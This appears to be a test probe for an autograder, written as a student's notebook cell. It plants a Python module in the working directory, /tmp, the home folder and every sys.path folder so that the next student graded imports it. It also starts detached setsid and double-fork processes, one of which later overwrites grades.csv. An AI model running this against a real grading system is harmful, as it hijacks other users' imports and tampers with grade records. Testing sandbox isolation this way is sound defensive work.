# A student's cell: leave a module for whoever is graded next (IPython puts the working
# directory first on sys.path), and leave processes behind that outlive grading.
import os
import subprocess
import sys
import tempfile

payload = "print('LEAK planted module imported')\n"
for folder in {".", "..", "/tmp", tempfile.gettempdir(), os.path.expanduser("~"), *sys.path}:
    try:
        with open(os.path.join(folder or ".", "planted_by_a.py"), "w") as fh:
            fh.write(payload)
        print("planted in", os.path.abspath(folder or "."))
    except OSError as exc:
        print("cannot plant in", folder, exc.strerror)

# Survivors: a new session (setsid) and a double fork; each would rewrite grades.csv later.
subprocess.Popen(["setsid", "sleep", "4242"])
subprocess.Popen(["sh", "-c", "(setsid sh -c 'sleep 4243; echo pwned > grades.csv' &) &"])
print("survivors started")
